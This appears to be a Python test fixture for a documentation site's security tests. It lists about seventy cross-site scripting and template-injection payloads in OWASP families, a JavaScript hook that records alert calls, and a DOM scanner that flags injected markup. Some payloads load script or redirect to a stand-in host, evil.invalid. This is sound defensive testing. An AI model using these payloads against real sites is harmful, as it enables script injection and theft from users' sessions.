"""Texts that try to run: each calls `ran(N)` or `alert(N)` if a page takes it for anything but a text.

From the families of the OWASP cheat sheet on XSS: script, SVG, attributes, addresses, templates, style, Unicode, and
markup that changes its meaning when it is parsed twice (mXSS). Nothing here leaves the machine: addresses are of
``.invalid`` (RFC 2606).
"""

from __future__ import annotations

_CALL = "alert('ran-{n}')"
_FORMS = (
    # script
    "<script>{c}</script>",
    "<ScRiPt >{c}</sCrIpT >",
    "<script/src=data:text/javascript,{c}></script>",
    "<scr<script>ipt>{c}</scr</script>ipt>",
    "</script><script>{c}</script>",
    "<script>/*</script><script>*/{c}</script>",
    "<script type=module>{c}</script>",
    "<script src=//evil.invalid/{n}.js></script>",
    # elements with handlers
    "<img src=x onerror={c}>",
    '"><img src=x onerror="{c}">',
    "'><img src=x onerror='{c2}'>",
    "<img src=x:x onerror\n=\n{c}>",
    "<body onload={c}>",
    "<input autofocus onfocus={c}>",
    "<details open ontoggle={c}><summary>x</summary></details>",
    "<video><source onerror={c}></video>",
    "<audio src=x onerror={c}></audio>",
    "<marquee onstart={c}>x</marquee>",
    '<iframe srcdoc="<script>parent.{c2}</script>"></iframe>',
    '<iframe src="javascript:parent.{c2}"></iframe>',
    '<object data="javascript:{c2}"></object>',
    '<embed src="javascript:{c2}">',
    "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={c}>x</b>",
    # SVG and MathML
    "<svg onload={c}>",
    "<svg><script>{c}</script></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:{c2}"><text y=20>x</text></a></svg>',
    "<svg><foreignObject><img src=x onerror={c}></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={c}>",
    # out of an attribute
    '" onmouseover="{c2}" autofocus onfocus="{c2}" x="',
    "' onfocus='{c}' autofocus x='",
    "` onfocus=`{c}` autofocus",
    '" style="animation-name:x" onanimationstart="{c2}',
    'x" formaction="javascript:{c2}" x="',
    # addresses
    "javascript:{c}",
    "JaVaScRiPt:{c}",
    "java\tscript:{c}",
    "&#106;avascript:{c}",
    "data:text/html,<script>{c}</script>",
    "[click](javascript:{c})",
    "vbscript:msgbox({n})",
    "https://evil.invalid/{n}",
    # templates
    '{{{{constructor.constructor("{c2}")()}}}}',
    "{{% import os %}}{{{{ 7*7 }}}}",
    "${{{c}}}",
    "<%= {c} %>",
    "#{{{c}}}",
    # style
    "</style><script>{c}</script><style>",
    "<style>@import '//evil.invalid/{n}.css';</style>",
    "<link rel=stylesheet href=//evil.invalid/{n}.css>",
    '<div style="background:url(//evil.invalid/{n}.png)">x</div>',
    # Unicode
    "\uff1cscript\uff1e{c}\uff1c/script\uff1e",
    "<img src=x o\u200bnerror={c}>",
    "\u202e<script>{c}</script>",
    "<script\u2028>{c}</script>",
    "+ADw-script+AD4-{c}+ADw-/script+AD4-",
    # parsed twice
    '<noscript><p title="</noscript><img src=x onerror={c}>">',
    "<!--><img src=x onerror={c}>-->",
    "<![CDATA[<img src=x onerror={c}>]]>",
    "<textarea></textarea><img src=x onerror={c}>",
    "<title></title><img src=x onerror={c}>",
    "<template><img src=x onerror={c}></template>",
    '<form action="javascript:{c2}"><button>x</button></form>',
    "<base href=//evil.invalid/>",
    '<meta http-equiv=refresh content="0;url=//evil.invalid/{n}">',
    'hx-on::load="{c2}" <b hx-get=//evil.invalid/{n} hx-trigger=load>x</b>',
    "<context-meter src=//evil.invalid/ session=x></context-meter>",
)
ATTACKS = tuple(
    form.format(n=at, c=_CALL.format(n=at).replace("'", "`"), c2=_CALL.format(n=at)) for at, form in enumerate(_FORMS)
)
"""With back quotes where a quote would end an attribute."""

HOOK = """
window.ran = [];
for (const name of ["alert", "confirm", "prompt", "print"]) window[name] = (said) => { window.ran.push(String(said)); };
document.addEventListener("securitypolicyviolation", (event) => {
  window.ran.push(`refused by the policy: ${event.violatedDirective} ${event.blockedURI} ${event.sample}`);
});
"""
"""Remembers what ran, and what only the policy kept from running."""

FOREIGN = r"""() => {
  const found = [];
  const own = new Set(["pages.css", "pages.js", "htmx.min.js", "context-meter.js", "icon.svg"]);
  for (const one of document.querySelectorAll("*")) {
    const tag = one.localName;
    if (/^(img|iframe|object|embed|base|style|video|audio|marquee|math|template|noscript|foreignobject)$/i.test(tag))
      found.push(tag);
    if (tag === "script" && !own.has((one.src || "").split("/").pop())) found.push(`script ${one.src}`);
    if (tag === "link" && !own.has((one.href || "").split("/").pop())) found.push(`link ${one.href}`);
    if (tag === "meta" && one.httpEquiv && one.httpEquiv !== "Content-Security-Policy") found.push("meta refresh");
    const [site, kind] = (one.getAttribute("href") || "").split("#");
    const isPage = site === "https://ctxsteward.github.io/ctxsteward/troubleshooting/";
    const isEntry = tag === "a" && isPage && /^\w+$/.test(kind);
    for (const { name, value } of one.attributes) {
      if (isEntry && name === "href") continue;  // what a finding means, in the documentation
      if (/^on|^style$|^srcdoc$|^formaction$|^hx-/i.test(name)) found.push(`${tag} ${name}`);
      if (/^(href|src|action|xlink:href|data)$/i.test(name) && new URL(value, location).origin !== location.origin)
        found.push(`${tag} ${name}=${value}`);
    }
  }
  return found;
}"""
"""What pages never hold, found in the document: an attack became markup."""
